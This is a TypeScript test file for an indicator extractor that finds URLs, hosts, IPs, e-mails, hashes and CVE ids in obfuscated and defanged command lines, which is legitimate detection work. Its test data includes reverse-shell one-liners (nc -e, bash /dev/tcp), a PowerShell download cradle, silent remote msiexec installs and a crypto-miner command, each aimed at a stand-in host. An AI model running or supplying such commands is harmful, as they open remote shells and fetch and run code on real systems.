/**
 * Goal: whatever a command line hides an indicator in, it is found once and in one spelling; nothing that is no indicator is found.
 * Method: tables of lines, and properties over random and hostile texts (fixed point, bounds, no throw).
 * Elsewhere: package URLs in `msiexec.test.ts`, hosts and the normal form of a URL in `url.test.ts`.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { extractIndicators, TEXT_CHARS_MAX } from './extract.ts';

describe('a URL is found wherever it is glued', () => {
  test.each([
    ['plain operand', 'msiexec /i http://a.example.net/s.msi /qn', 'http://a.example.net/s.msi'],
    ['glued to a switch', 'msiexec /ihttp://a.example.net/s.msi', 'http://a.example.net/s.msi'],
    ['glued to a quote', 'mSiExEC /Q/i"HTTP://A.Example.NET/S.msi"/qn', 'http://a.example.net/S.msi'],
    ['glued to a property', 'x FOO=https://a.example.net/q', 'https://a.example.net/q'],
    ['single quotes', "IEX (New-Object X).Get('http://a.example.net/a.ps1')", 'http://a.example.net/a.ps1'],
    ['defanged', 'hXXps[:]//a[.]example(.)net/x', 'https://a.example.net/x'],
    ['defanged scheme mark', 'hxxp[://]a[dot]example[.]net/x', 'http://a.example.net/x'],
    ['carets', 'ht^tp^://a.exa^mple.net/x', 'http://a.example.net/x'],
    ['empty quotes', 'ht""tp://a.exa""mple.net/x', 'http://a.example.net/x'],
    ['quote in the scheme', 'h"tt"p://a.example.net/x', 'http://a.example.net/x'],
    ['user info', 'http://www.example.com:80@x@evil.example.net:8080/p', 'http://evil.example.net:8080/p'],
    ['integer host', 'http://134744072/a', 'http://8.8.8.8/a'],
    ['hex and octal host', 'http://0x8.010.0x0808/a', 'http://8.8.8.8/a'],
    ['IPv6', 'http://[2A00:1450:4001:82A:0:0:0:200E]:8080/a', 'http://[2a00:1450:4001:82a::200e]:8080/a'],
    ['IDN host and non-ASCII path', 'http://bücher.example/ä?ö', 'http://xn--bcher-kva.example/%C3%A4?%C3%B6'],
    [
      'path and query as written',
      'http://a.example.net/A,b&c?D=1,2&e=%41#F',
      'http://a.example.net/A,b&c?D=1,2&e=%41#F',
    ],
    ['brackets around', '(see http://a.example.net/a_(b))', 'http://a.example.net/a_(b)'],
    ['braces', 'MsiExec /I{https://a.example.net/{G}.msi} /q', 'https://a.example.net/{G}.msi'],
    ['backslashes', 'http:\\\\a.example.net\\x\\y.msi', 'http://a.example.net/x/y.msi'],
    ['blank in quotes', 'msiexec /i "http://a.example.net/My App.msi" /qn', 'http://a.example.net/My%20App.msi'],
    ['argument after it in quotes', 'cmd /c "http://a.example.net/x /qn"', 'http://a.example.net/x'],
    ['slashes escaped as in JSON', '{"u":"http:\\/\\/a.example.net\\/x"}', 'http://a.example.net/x'],
    ['escaped quotes', 'cmd \\"http://a.example.net/x\\"', 'http://a.example.net/x'],
    [
      'a URL in a query is part of it',
      'http://a.example.net/?u=http://b.example.net/',
      'http://a.example.net/?u=http://b.example.net/',
    ],
  ])('%s', (_name, line, url) => {
    expect(extractIndicators(line).urls).toEqual([url]);
  });

  test('a comma before a scheme ends a URL, in the value of a list property, too', () => {
    const line = 'http://a.example.net/x,http://b.example.net/';
    const urls = ['http://a.example.net/x', 'http://b.example.net/'];
    expect(extractIndicators(line).urls).toEqual(urls);
    expect(extractIndicators(`PATCH="${line}"`).urls).toEqual(urls);
  });

  test('a list with semicolons holds several', () => {
    expect(extractIndicators('TRANSFORMS=http://a.example.net/a.mst;https://b.example.net/b.mst').urls).toEqual([
      'http://a.example.net/a.mst',
      'https://b.example.net/b.mst',
    ]);
  });
});

describe('what is no URL is not made one', () => {
  test.each([
    'msiexec /i \\\\fs02.corp.example.com\\drop$\\tool.msi /qn',
    'msiexec /i C:\\Users\\x\\setup.msi',
    'file:///etc/passwd',
    'http:///nohost',
    'http://host:99999/x',
    'http://1.2.3.4.5/x',
    'http://a..example.net/',
    'http://[::1/x',
  ])('%s', (line) => {
    expect(extractIndicators(line).urls).toEqual([]);
  });
});

describe('bare names and addresses', () => {
  test.each([
    ['/tmp/.x/xmrig -o pool.example.org:443', ['pool.example.org'], []],
    ['nc -e /bin/sh 8.8.4.4 4444', [], ['8.8.4.4']],
    ['bash -i >& /dev/tcp/c2.example.net/53 0>&1', ['c2.example.net'], []],
    ['bash -i >& /dev/tcp/8.8.4.4/53 0>&1', [], ['8.8.4.4']],
    ['./m -o stratum+tcp://pool.example.org:3333', ['pool.example.org'], []],
    ['ssh root@host.example.net', ['host.example.net'], []],
    ['ping6 2A00:1450::1', [], ['2a00:1450::1']],
    ['nc [2a00:1450::1]:80', [], ['2a00:1450::1']],
    ['curl evil.sh/x', ['evil.sh'], []],
    ['curl c2[.]example[.]net', ['c2.example.net'], []],
  ])('%s', (line, domains, ips) => {
    expect(extractIndicators(line)).toMatchObject({ domains, ips });
  });

  test.each([
    'sh install.sh run.py setup.msi main.rs lib.so backup.zip README.md',
    '/opt/app-1.2.3.4/bin/x /srv/1.2.3.4/y ./evil.com C:\\x\\evil.com',
    'agent-10.0.19041.1 v1.2.3 12:34:56 aa:bb:cc:dd:ee:ff 01.02.03.04 1.2.3.400',
    '[Convert]::Add(1) [System.IO.File]::ReadAllText($x) New-Object System.Net.WebClient std::cafe',
    '$env.name obj.link( a.name=1 --foo.bar WScript.Shell',
  ])('nothing in: %s', (line) => {
    expect(extractIndicators(line)).toMatchObject({ urls: [], domains: [], ips: [] });
  });

  test('the host of a URL is listed with the bare ones, once', () => {
    expect(
      extractIndicators('http://b.example.net/x http://8.8.8.8/ b.example.net 8.8.8.8 http://dc01/x'),
    ).toMatchObject({
      domains: ['b.example.net'],
      ips: ['8.8.8.8'],
    });
  });
});

test('elements of a list are read by themselves', () => {
  expect(extractIndicators(['http://a.example.net/', 'x', null, 7, 'http://b.example.net']).urls).toEqual([
    'http://a.example.net/',
    'http://b.example.net',
  ]);
  expect(extractIndicators(undefined)).toEqual({
    urls: [],
    domains: [],
    ips: [],
    emails: [],
    hashes: [],
    cves: [],
    isTruncated: false,
  });
});

test('what is beyond the bound is not read, and the result says so', () => {
  const result = extractIndicators([
    `${'x '.repeat(TEXT_CHARS_MAX / 2 - 20)} http://a.example.net/`,
    'http://b.example.net/'.repeat(9),
  ]);
  expect(result.isTruncated).toBe(true);
  expect(result.urls[0]).toBe('http://a.example.net/');
});

describe('a normal form is found again as it is', () => {
  test.each([
    ['a caret that quotes protect', '"http://http://^', 'http://http//%5E'],
    ['a defanged dot inside another', 'http://a.example.net/[[.]]x', 'http://a.example.net/%5B.%5Dx'],
    ['a defanged dot of two kinds', 'http://a.example.net/[(dot)]x', 'http://a.example.net/%5B.%5Dx'],
    ['a defanged slash inside another', 'http://a.example.net/[[/]]x', 'http://a.example.net/%5B/%5Dx'],
    ['escaped slashes that carets hid', 'http://a.example.net/?:^\\/\\/x', 'http://a.example.net/?:%5C/%5C/x'],
    ['a stop after a blank in quotes', '"http://a.example.net/x y."', 'http://a.example.net/x%20y'],
    ['an apostrophe after a blank in quotes', '"http://a.example.net/x y\'z"', 'http://a.example.net/x%20y%27z'],
    ['an apostrophe in quotes', '"http://a.example.net/it\'s.msi?x=1" /qn', 'http://a.example.net/it%27s.msi?x=1'],
    [
      'a value in apostrophes before the closing quote',
      `"http://a.example.net/x?y='2'" /qn`,
      'http://a.example.net/x?y=%272%27',
    ],
    ['an apostrophe before the closing quote', '"http://a.example.net/x\'" /qn', 'http://a.example.net/x'],
    ['a blank before the closing quote', '"http://a.example.net/x " /qn', 'http://a.example.net/x'],
    ['an escaped quote after a blank', '\\"http://a.example.net/x y\\"', 'http://a.example.net/x%20y'],
    ['a bracket in the user info', 'http://(@a.example.net/b)', 'http://a.example.net/b'],
  ])('%s', (_name, line, url) => {
    expect(extractIndicators(line).urls).toEqual([url]);
    expect(extractIndicators(url).urls).toEqual([url]);
  });
});

const awkward = fc.constantFrom(
  'http://',
  'https://',
  'hxxp://',
  ':',
  '//',
  '@',
  '[',
  ']',
  '::',
  '.',
  '[.]',
  '(dot)',
  '[/]',
  '\\/',
  '(',
  ')',
  '{',
  '}',
  '/',
  '?',
  '%',
  '%zz',
  '^',
  '"',
  "'",
  ';',
  ',',
  ' ',
  '\\',
  '/i',
  'a',
  'xn--',
  'ü',
  '\u{1f600}',
  '\ud800',
  '0x',
  '10.',
  'example.net',
  'PATCH=',
  'msiexec',
  '\u0000',
  '\u202e',
  'ﬀ',
  '／',
  '․',
);

test('a normal form is its own normal form, and nothing throws', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(awkward, fc.string({ maxLength: 4 })), { maxLength: 40 }), (pieces) => {
      const { urls, domains, ips } = extractIndicators(pieces.join(''));
      for (const url of urls) expect(extractIndicators(url).urls).toEqual([url]);
      for (const domain of domains) expect(extractIndicators(`http://${domain}/`).domains).toEqual([domain]);
      for (const ip of ips)
        expect(extractIndicators(ip.includes(':') ? `http://[${ip}]/` : `http://${ip}/`).ips).toEqual([ip]);
      for (const url of urls) expect(url).toMatch(/^https?:\/\/[^\s@"/?#]+(?:[/?#]|$)/);
    }),
    { numRuns: 2000 },
  );
});

test.each([
  'http://',
  'http://.',
  'http://[',
  '"http://- ',
  'http://-@',
  'a.',
  '::',
  '[.]',
  '/i ',
  'http://a;',
  '(',
  'x@',
  '"',
  '^',
  '0x1.',
  ';http://a.example.net',
  '/a',
  '\u0301',
])('a megabyte of %j takes little time', (piece) => {
  const started = performance.now();
  extractIndicators(piece.repeat(Math.ceil(TEXT_CHARS_MAX / piece.length)));
  expect(performance.now() - started).toBeLessThan(5000);
});

describe('other kinds', () => {
  const SHA256 = 'ab'.repeat(32);

  test.each([
    ['mail kim@Mail.Example.COM, or <lee+x@example.org>.', ['kim@mail.example.com', 'lee+x@example.org']],
    ['kim[@]example.com kim@[example.com', []],
    ['defanged: kim@example[.]com', ['kim@example.com']],
    ['ssh kim@host.example.com:22 and git@git.example.com:org/x', []],
    ['http://kim@example.com/x is a URL', []],
    ['kim@install.sh/ @example.com kim@', []],
    ["'kim@bücher.example'", ['kim@xn--bcher-kva.example']],
  ])('e-mail addresses of %j', (text, emails) => {
    expect(extractIndicators(text).emails).toEqual(emails);
  });

  test('hashes stand alone, also in a URL, and CVE ids are whole', () => {
    const text = `${SHA256.toUpperCase()} x${SHA256} ${'a'.repeat(33)} http://a.example.net/f/${'c'.repeat(32)} cve-2024-12345 CVE-2024-1 XCVE-2024-12345`;
    const { hashes, cves } = extractIndicators(text);
    expect(hashes).toEqual([SHA256, 'c'.repeat(32)]);
    expect(cves).toEqual(['CVE-2024-12345']);
  });

  test('a text of @ alone costs no more than its length', () => {
    expect(extractIndicators('a@'.repeat(400_000)).emails).toEqual([]);
  });
});
